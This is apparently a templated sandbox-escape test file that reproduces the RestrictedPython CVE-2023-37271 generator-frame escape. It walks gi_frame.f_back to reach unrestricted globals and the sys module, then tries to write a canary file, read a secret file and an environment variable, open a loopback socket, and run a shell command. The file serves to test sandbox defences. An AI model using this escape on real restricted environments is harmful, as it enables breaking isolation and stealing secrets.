"""Walk from a generator's frame to the caller's globals.

Source: RestrictedPython advisory CVE-2023-37271 (generator frames): a
generator expression's gi_frame.f_back chain leaves the restricted code and
reaches the frames that run it, with their unrestricted globals; the
regression test is tests/test_generator_escape.py (test_2).
Tries: reach the worker's globals through gi_frame.f_back.f_back, import sys,
write the canary file, read the secret file and variable, connect to the
loopback listener, run a shell command.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

def rp_generator_frame_walk() -> dict:
    frames = (step.gi_frame.f_back.f_back for step in [1])
    frame = [found for found in frames][0]
    return claim_namespace(frame.f_globals)


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
